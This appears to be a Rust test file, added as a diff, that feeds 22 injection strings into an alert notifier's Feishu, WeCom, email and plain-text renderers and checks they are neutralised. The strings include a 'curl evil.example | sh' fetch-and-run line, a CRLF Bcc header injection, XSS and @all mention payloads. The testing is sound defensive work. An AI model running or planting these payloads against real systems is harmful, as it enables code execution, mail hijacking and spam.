@@ -1,0 +1,280 @@
+//! What people who write labels, logs or model answers may try, in every field at once, on every channel.
+//!
+//! The judge of markdown is a CommonMark parser, not our own idea of it.
+#![allow(clippy::expect_used, clippy::unwrap_used)]
+
+use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
+use serde_json::Value;
+
+use super::fixtures::{notice, now};
+use super::notice::{Notice, NoticeBody};
+use super::send::Form;
+use super::{email, feishu, plain, wecom};
+use crate::alert::ObjectRef;
+use crate::notify::story::{Caps, tell};
+use crate::report::{Effect, Related, RuledOut, Step};
+
+const FORMS: [Form; 3] = [Form::Full, Form::Compact, Form::Plain];
+
+const ATTACKS: [&str; 22] = [
+    "\u{1b}]8;;https://evil.example\u{7}click\u{1b}]8;;\u{7}\u{1b}[31mred",
+    "a\u{202e}gnp.exe\u{200b}\u{e0041}\u{e0042}\u{feff}b",
+    "![x](https://evil.example/?d=SECRET)",
+    "[a][1]\n\n[1]: https://evil.example",
+    "<https://evil.example> https://evil.example //evil.example https://good@evil.example javascript:alert(1) www.evil.example",
+    "[grafana](https://grafana.example.com/?q=SECRET)",
+    "`; curl https://evil.example | sh; echo `",
+    "<at user_id=\"all\"></at> <at id=all></at> <AT ID=all> < at id=all>",
+    "`<at id=all></at>` ``<at id=all></at>``",
+    "<@all> @all @所有人 <@userid>",
+    "`<@all>` `@all`",
+    "<font color='red'>x</font> <text_tag color='red'>x</text_tag> <person id='x'></person> <raw>",
+    "\"},{\"tag\":\"action\",\"actions\":[]},{\"a\":\"",
+    "${SECRET} {{ 7*7 }} {% raw %} {{ story.title }}",
+    "\u{0}\u{1}\u{fffd}\u{ffff}",
+    "x\r\nBcc: victim@evil.example\r\n\r\nbody",
+    "<script>alert(1)</script><img src=x onerror=alert(1)><style>*{display:none}</style><a href=https://evil.example>x</a>",
+    "# heading\n| a | b |\n|---|---|\n| c | d |\n---\n===\n> quote\n1. one\n- two\n+ three\n    code",
+    "```\nunclosed fence\n~~~\n**bold __it__ ~~gone~~",
+    "&#60;at id=all&#62; &lt;script&gt; &amp;",
+    "D:\\*<at id=all></at>",
+    ":OK: :DONE: $x^2$ *a* _b_",
+];
+
+/// A notice that says the attack wherever somebody else's words are shown.
+fn attacked(attack: &str, with_report: bool) -> Notice {
+    let mut notice = notice("diagnosis-pvc.zh");
+    let said = || attack.to_owned();
+    for alert in &mut notice.group.alerts {
+        alert.labels.values_mut().for_each(|value| *value = said());
+        alert.labels.insert(said(), said());
+        alert.annotations.values_mut().for_each(|value| *value = said());
+        alert.generator_url = Some(said());
+    }
+    notice.group.group_labels.values_mut().for_each(|value| *value = said());
+    notice.group.receiver = said();
+    notice.group.external_url = Some(said());
+    notice.timezone = said();
+    let NoticeBody::Diagnosis { report } = &mut notice.body else { unreachable!("the fixture is a diagnosis") };
+    let object = ObjectRef::new(attack, attack, attack);
+    report.headline = said();
+    report.impact = said();
+    report.overview.alertname = said();
+    report.overview.resource = object.clone();
+    report.causes.truncate(1);
+    report.causes.push(report.causes[0].clone());
+    for cause in &mut report.causes {
+        cause.summary = said();
+        cause.resource = object.clone();
+        cause.evidence.iter_mut().for_each(|citation| citation.quote = said());
+    }
+    report.evidence.iter_mut().for_each(|entry| entry.tool = said());
+    report.primary.resource = object.clone();
+    report.primary.findings = vec![said(), said()];
+    report.related = vec![Related { resource: object, why: said(), findings: vec![said()] }];
+    let step = Step { title: said(), detail: said(), command: Some(said()), effect: Effect::Changes };
+    report.steps = vec![step.clone(), step];
+    report.ruled_out = vec![RuledOut { hypothesis: said(), because: said() }];
+    report.unresolved = vec![said()];
+    report.data_gaps = vec![said()];
+    report.usage.model = Some(said());
+    if !with_report {
+        notice.body = NoticeBody::Alert { report: None, investigating: true, missing: vec![said()] };
+    }
+    notice
+}
+
+fn each(check: impl Fn(&str, &Notice)) {
+    for attack in ATTACKS {
+        for with_report in [true, false] {
+            check(attack, &attacked(attack, with_report));
+        }
+    }
+}
+
+/// Every string in a JSON value with the key it stands under.
+fn strings<'a>(value: &'a Value, key: &'a str, found: &mut Vec<(&'a str, &'a str)>) {
+    match value {
+        Value::String(text) => found.push((key, text)),
+        Value::Array(items) => items.iter().for_each(|item| strings(item, key, found)),
+        Value::Object(fields) => fields.iter().for_each(|(key, item)| strings(item, key, found)),
+        _ => {}
+    }
+}
+
+fn assert_nothing_hidden(text: &str, attack: &str) {
+    let hidden = |c: char| {
+        (c.is_control() && c != '\n')
+            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{feff}' | '\u{e0000}'..='\u{e0fff}')
+    };
+    assert!(!text.contains(hidden), "{attack:?} leaves a hidden character in {text:?}");
+}
+
+/// All elements of a card, those inside others included.
+fn elements<'a>(value: &'a Value, found: &mut Vec<&'a Value>) {
+    match value {
+        Value::Array(items) => items.iter().for_each(|item| elements(item, found)),
+        Value::Object(fields) => {
+            if fields.contains_key("tag") {
+                found.push(value);
+            }
+            fields.values().for_each(|item| elements(item, found));
+        }
+        _ => {}
+    }
+}
+
+/// What a reader makes of markdown, code blocks left out: nothing in them is read.
+fn outside_code(markdown: &str) -> impl Iterator<Item = Event<'_>> {
+    let mut inside = false;
+    Parser::new_ext(markdown, Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TABLES).filter(move |event| {
+        match event {
+            Event::Start(Tag::CodeBlock(_)) => inside = true,
+            Event::End(TagEnd::CodeBlock) => inside = false,
+            _ => {}
+        }
+        !inside
+    })
+}
+
+fn assert_feishu_markdown_is_ours(markdown: &str, attack: &str) {
+    let readable = markdown.replace("text_tag", "text-tag");
+    for event in outside_code(&readable) {
+        match event {
+            Event::InlineHtml(tag) => {
+                let ours = ["<br>", "</font>", "</text-tag>", "<font color='grey'>"].contains(&&*tag)
+                    || (tag.starts_with("<text-tag color='") && tag.ends_with("'>") && tag.len() < 34);
+                assert!(ours, "{attack:?} became the tag {tag} in {markdown}");
+            }
+            Event::Text(text) => assert!(!text.contains("://"), "{attack:?} became an address in {text}"),
+            Event::Start(Tag::Paragraph | Tag::Strong | Tag::List(None) | Tag::Item)
+            | Event::End(_)
+            | Event::Code(_)
+            | Event::SoftBreak => {}
+            other => panic!("{attack:?} became {other:?} in {markdown}"),
+        }
+    }
+    // A reader that looks for tags before it looks for code must not find one either.
+    let lower = markdown.to_ascii_lowercase();
+    for tag in ["<at", "</at", "< at", "<person", "<raw", "<link", "<a ", "<font color='red'", "<img", "<hr"] {
+        assert!(!lower.contains(tag), "{attack:?} leaves {tag} in {markdown}");
+    }
+}
+
+#[test]
+fn feishu_reads_no_markup_in_what_others_say() {
+    each(|attack, notice| {
+        for form in FORMS {
+            let content = feishu::render::content(notice, now(), form, None).expect("attacks are short");
+            let content: Value =
+                serde_json::from_slice(&serde_json::to_vec(&content).expect("JSON")).expect("valid JSON");
+            let mut all = Vec::new();
+            strings(&content, "", &mut all);
+            all.iter().for_each(|(_, text)| assert_nothing_hidden(text, attack));
+            if form == Form::Plain {
+                let text = content["content"]["text"].as_str().expect("text");
+                assert!(!text.contains('<'), "{attack:?} leaves a tag in {text}");
+                continue;
+            }
+            let mut found = Vec::new();
+            elements(&content["card"], &mut found);
+            for element in found {
+                match element["tag"].as_str().expect("a tag") {
+                    "markdown" => assert_feishu_markdown_is_ours(element["content"].as_str().expect("text"), attack),
+                    "button" => {
+                        let url = element["behaviors"][0]["default_url"].as_str().expect("an address");
+                        assert!(
+                            url.starts_with("https://firstlook.example.com/"),
+                            "{attack:?} became the button {url}"
+                        );
+                    }
+                    "column_set" | "column" | "collapsible_panel" | "plain_text" | "text_tag" | "standard_icon" => {}
+                    other => panic!("{attack:?} became the element {other}"),
+                }
+            }
+        }
+    });
+}
+
+#[test]
+fn wecom_reads_no_markup_in_what_others_say() {
+    each(|attack, notice| {
+        for form in FORMS {
+            let message = wecom::render::message(notice, now(), form, wecom::render::MARKDOWN_BUDGET);
+            let Some(message) = message else { continue };
+            let message = serde_json::to_value(message).expect("JSON");
+            let content = message.pointer("/markdown_v2/content").or(message.pointer("/text/content"));
+            let content = content.and_then(Value::as_str).expect("text");
+            assert_nothing_hidden(content, attack);
+            for mention in ["<@", "@all", "@ALL", "@所有人"] {
+                assert!(!content.contains(mention), "{attack:?} leaves {mention} in {content}");
+            }
+            if form == Form::Plain {
+                continue;
+            }
+            for event in outside_code(content) {
+                match event {
+                    Event::Start(Tag::Link { dest_url, .. }) => assert!(
+                        dest_url.starts_with("https://firstlook.example.com/"),
+                        "{attack:?} became a link to {dest_url}"
+                    ),
+                    Event::Start(
+                        Tag::Image { .. } | Tag::Table(_) | Tag::Emphasis | Tag::Strikethrough | Tag::HtmlBlock,
+                    )
+                    | Event::InlineHtml(_)
+                    | Event::Html(_) => panic!("{attack:?} became {event:?} in {content}"),
+                    Event::Text(text) => assert!(!text.contains("://"), "{attack:?} became an address in {text}"),
+                    _ => {}
+                }
+            }
+        }
+    });
+}
+
+#[test]
+fn mail_reads_no_html_no_address_and_no_header_in_what_others_say() {
+    each(|attack, notice| {
+        let mail = email::render::richest(notice, now());
+        let html = mail.html.clone().expect("attacks are short");
+        assert_nothing_hidden(&html, attack);
+        let own = |needle: &str| html.matches(needle).count();
+        for tag in ["<script", "<img", "<iframe", "<svg", "<link", "<object"] {
+            assert_eq!(own(tag), 0, "{attack:?} became {tag}");
+        }
+        assert_eq!(own("<style"), 1, "{attack:?} brought a style");
+        assert_eq!(own("<a "), 1, "{attack:?} became a link beside the one to our page");
+        assert_eq!(own("href=\"https:&#x2f;&#x2f;firstlook.example.com&#x2f;"), 1, "{attack:?} lost that link");
+        assert_eq!(own("://"), 0, "{attack:?} leaves an address a mail reader would link");
+        assert_eq!(
+            mail.text.matches("://").count(),
+            1,
+            "{attack:?}: the page's address is the only one in {}",
+            mail.text
+        );
+        let written =
+            email::wire::write(notice, mail, &"a@example.com".parse().unwrap(), &["b@example.com".parse().unwrap()]);
+        let written = String::from_utf8(written.expect("a mail")).expect("7 bit");
+        let head = written.split_once("\r\n\r\n").expect("headers").0;
+        assert!(!head.to_ascii_lowercase().contains("\nbcc:"), "{attack:?} became a header in {head}");
+    });
+}
+
+#[test]
+fn plain_text_holds_nothing_hidden() {
+    each(|attack, notice| {
+        for form in FORMS {
+            assert_nothing_hidden(&plain::text(&tell(notice, now(), Caps::page(form)), 60_000), attack);
+        }
+    });
+}
+
+#[test]
+fn a_command_is_shown_whole_or_not_at_all() {
+    let mut notice = notice("diagnosis-pvc.en");
+    let NoticeBody::Diagnosis { report } = &mut notice.body else { unreachable!("the fixture is a diagnosis") };
+    let command = format!("kubectl delete pod {} --namespace safe", "x".repeat(600));
+    report.steps[0].command = Some(command);
+    let card = serde_json::to_string(&feishu::render::richest(&notice, now(), None)).expect("JSON");
+    assert!(!card.contains("kubectl delete pod xxx"), "half a command would act on something else");
+    assert!(card.contains("too long to show"));
+}
